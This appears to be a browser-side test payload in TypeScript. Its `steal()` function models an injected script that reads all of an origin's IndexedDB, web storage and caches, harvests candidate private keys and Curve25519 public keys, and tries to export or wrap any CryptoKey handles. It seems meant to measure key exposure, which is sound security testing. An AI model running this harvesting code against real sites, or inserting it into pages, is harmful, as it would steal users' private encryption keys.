/** A script that got into the page and reads everything its origin has stored. It runs in the browser: no imports. */

export type Loot = {
  /** Private and secret keys that were found, and how many of them any way of export gave away. */
  readonly handles: number;
  readonly extractable: number;
  readonly exported: number;
  /** Every 32 bytes in a row that a private key could be, in hex. */
  readonly candidates: readonly string[];
  /** Every public key of Curve25519 in the form of the wire (0x05 and 32 bytes), without the type, in hex. */
  readonly publicKeys: readonly string[];
  /** Names of what was read. */
  readonly places: readonly string[];
};

/** Reads all databases, both web storages and all caches. Give it to `page.evaluate`. */
export async function steal(): Promise<Loot> {
  const KEY_BYTES = 32;
  /** Longer ones are texts and pictures; a key is wrapped in less. */
  const LONGEST_BLOB = 256;
  const keys: CryptoKey[] = [];
  const places: string[] = [];
  const candidates = new Set<string>();
  const publicKeys = new Set<string>();
  const hex = (bytes: Uint8Array) => Array.from(bytes, (byte) => byte.toString(16).padStart(2, "0")).join("");

  const lookAtBytes = (bytes: Uint8Array) => {
    if (bytes.length > LONGEST_BLOB) return;
    if (bytes.length === KEY_BYTES + 1 && bytes[0] === 5) publicKeys.add(hex(bytes.subarray(1)));
    for (let at = 0; at + KEY_BYTES <= bytes.length; at++) candidates.add(hex(bytes.subarray(at, at + KEY_BYTES)));
  };
  const lookAtText = (text: string) => {
    if (text.length <= LONGEST_BLOB && [...text].every((letter) => letter.charCodeAt(0) < 256)) {
      lookAtBytes(Uint8Array.from(text, (letter) => letter.charCodeAt(0)));
    }
    for (const [digits] of text.matchAll(/[0-9a-fA-F]{64,}/g)) {
      lookAtBytes(Uint8Array.from(digits.match(/../g) ?? [], (pair) => Number.parseInt(pair, 16)));
    }
    for (const [spelled] of text.matchAll(/[A-Za-z0-9+/_-]{42,350}/g)) {
      for (const shift of [0, 1, 2, 3]) {
        const standard = spelled.slice(shift).replaceAll("-", "+").replaceAll("_", "/");
        const whole = standard.slice(0, standard.length - (standard.length % 4 === 1 ? 1 : 0));
        lookAtBytes(Uint8Array.from(atob(whole), (letter) => letter.charCodeAt(0)));
      }
    }
  };
  const look = (value: unknown): void => {
    if (typeof value === "string") lookAtText(value);
    else if (value instanceof CryptoKey) {
      if (value.type !== "public") keys.push(value);
    } else if (value instanceof ArrayBuffer) lookAtBytes(new Uint8Array(value));
    else if (ArrayBuffer.isView(value)) {
      lookAtBytes(new Uint8Array(value.buffer, value.byteOffset, value.byteLength));
    } else if (Array.isArray(value)) {
      if (value.length >= KEY_BYTES && value.every((part) => typeof part === "number" && part >= 0 && part < 256)) {
        lookAtBytes(Uint8Array.from(value as number[]));
      } else for (const part of value) look(part);
    } else if (value instanceof Map || value instanceof Set) {
      look([...value]);
    } else if (typeof value === "object" && value !== null) {
      for (const [name, part] of Object.entries(value)) {
        lookAtText(name);
        look(part);
      }
    }
  };
  const answer = <T>(request: IDBRequest<T>) =>
    new Promise<T>((resolve, reject) => {
      request.addEventListener("success", () => resolve(request.result));
      request.addEventListener("error", () => reject(request.error));
    });

  for (const { name = "" } of await indexedDB.databases()) {
    const database = await answer(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      places.push(`${name}/${store}`);
      look(await answer(database.transaction(store).objectStore(store).getAll()));
    }
    database.close();
  }
  for (const storage of [localStorage, sessionStorage]) look({ ...storage });
  for (const name of await caches.keys()) {
    places.push(`cache ${name}`);
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      look(request.url);
      look(await (await cache.match(request))?.arrayBuffer());
    }
  }

  const wrapping = await crypto.subtle.generateKey({ name: "AES-GCM", length: 256 }, true, ["wrapKey"]);
  const iv = new Uint8Array(12);
  let exported = 0;
  for (const key of keys) {
    const ways = [
      ...(["raw", "pkcs8", "spki", "jwk"] as const).flatMap((format) => [
        () => crypto.subtle.exportKey(format as "raw", key),
        () => crypto.subtle.wrapKey(format, key, wrapping, { name: "AES-GCM", iv }),
      ]),
    ];
    const results = await Promise.allSettled(ways.map((way) => way()));
    if (results.some(({ status }) => status === "fulfilled")) exported += 1;
  }
  return {
    handles: keys.length,
    extractable: keys.filter(({ extractable }) => extractable).length,
    exported,
    candidates: [...candidates],
    publicKeys: [...publicKeys],
    places,
  };
}
